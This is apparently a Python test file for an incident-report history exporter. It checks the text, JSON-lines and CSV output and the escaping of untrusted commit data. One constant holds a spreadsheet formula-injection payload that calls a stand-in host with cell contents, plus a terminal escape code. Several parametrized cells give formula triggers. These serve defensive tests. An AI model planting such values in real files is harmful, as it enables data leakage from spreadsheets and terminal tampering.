"""The events as text, JSON lines and CSV, whatever documents and commits say."""

import csv
import json
from datetime import date
from io import StringIO
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from incidentdocs.output.history_csv import COLUMNS, defused, history_csv
from incidentdocs.output.history_json import history_jsonl
from incidentdocs.output.history_text import history_text
from incidentdocs.output.report_json import report_json
from incidentdocs.output.schemas import history_schema
from incidentdocs.reports.events import HistoryReport, ItemEvent

DISK = "docs/post-mortems/2026-01-10-disk.md"
HOSTILE = '=HYPERLINK("http://x/?"&A1)\x1b[2J'


def event(kind: str, on: int = 1, **more: Any) -> ItemEvent:
    told = {
        "event": kind,
        "when": date(2026, 3, on),
        "commit": f"{on:040}",
        "author": "Bridge Dev",
        "document": DISK,
        "number": 2,
        "description": "alert at 80 %",
    }
    return ItemEvent.model_validate(told | more)


def report(*events: ItemEvent) -> HistoryReport:
    return HistoryReport(as_of=date(2026, 3, 20), revision="f" * 40, events=events)


def test_text_is_a_log_by_commit_and_document() -> None:
    told = report(
        event("opened"),
        event("opened", document="docs/runbooks/b.md", number=None),
        event("rescheduled", 2, from_="2026-02-01", to="2026-04-01", after_due=True),
        event("reassigned", 2, from_="@ops", to=None),
        event("done", 3, evidence=("#41",), made=date(2026, 3, 2), made_by="b" * 40),
    )
    assert history_text(told, colour=False) == (
        "2026-03-01 0000000  Bridge Dev\n"
        f"  {DISK}\n"
        "    opened       AI 2  alert at 80 %\n"
        "  docs/runbooks/b.md\n"
        "    opened       AI  alert at 80 %\n"
        "\n"
        "2026-03-02 0000000  Bridge Dev\n"
        f"  {DISK}\n"
        "    rescheduled  AI 2  alert at 80 % · 2026-02-01 → 2026-04-01, after it had passed\n"
        "    reassigned   AI 2  alert at 80 % · @ops → nobody\n"
        "\n"
        "2026-03-03 0000000  Bridge Dev (made 2026-03-02 in bbbbbbb)\n"
        f"  {DISK}\n"
        "    done         AI 2  alert at 80 % · see #41\n"
        "\n"
        "5 events of 2 action items in 2 documents, up to 2026-03-20"
    )


def test_no_event_says_what_was_counted() -> None:
    assert history_text(report(), colour=False) == (
        "0 events of 0 action items in 0 documents, up to 2026-03-20"
    )
    assert history_jsonl(report()) == ""
    assert history_csv(report()).count("\n") == 0


def test_what_a_commit_says_reaches_no_terminal_unescaped() -> None:
    told = report(event("reworded", author=HOSTILE, description=HOSTILE, document=HOSTILE, from_=HOSTILE))
    assert "\x1b" not in history_text(told, colour=False)
    assert "\x1b" not in history_csv(told)
    assert "\x1b" not in history_jsonl(told)


def test_json_is_as_its_schema_says_and_a_line_is_an_event() -> None:
    told = report(event("rescheduled", from_=None, to="2026-04-01", after_due=False), event("done"))
    whole = json.loads(report_json(told))
    schema = history_schema()
    Draft202012Validator(schema).validate(whole)
    assert [json.loads(line) for line in history_jsonl(told).split("\n")] == whole["events"]
    assert whole["events"][0]["from"] is None
    assert "after_due" not in whole["events"][1]
    assert not Draft202012Validator(schema).is_valid(whole | {"events": [whole["events"][0] | {"x": 1}]})


def test_csv_has_a_column_for_everything_and_every_cell_in_quotes() -> None:
    told = report(event("done", evidence=("#41", "a" * 40), corrected=True, made_by="b" * 40))
    text = history_csv(told)
    head, row = list(csv.reader(StringIO(text)))
    assert tuple(head) == COLUMNS
    cells = dict(zip(head, row, strict=True))
    assert cells["evidence"] == f"#41 {'a' * 40}"
    assert (cells["corrected"], cells["number"], cells["made"]) == ("true", "2", "")
    assert text.split("\n")[1].startswith('"2026-03-01","done","docs/')


@pytest.mark.parametrize(
    "cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\u00a0@x", "＝1", "\n-2", " \t+3", "\t"]
)
def test_a_cell_that_a_spreadsheet_would_run_is_text(cell: str) -> None:
    assert defused(cell).startswith("'")


@pytest.mark.parametrize("cell", ["", "a=1", "2026-03-01", "'=1", "#41", "docs/a-b.md"])
def test_another_cell_is_left_as_it_is(cell: str) -> None:
    assert defused(cell) == cell


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=30))
def test_no_cell_is_run_and_no_row_is_broken(text: str) -> None:
    written = history_csv(report(event("reworded", description=text, author=text, from_=text)))
    rows = list(csv.reader(StringIO(written, newline="")))
    assert [len(row) for row in rows] == [len(COLUMNS)] * 2
    assert not any(cell.strip()[:1] in "=+-@＝＋－＠" for cell in rows[1] if cell.strip())
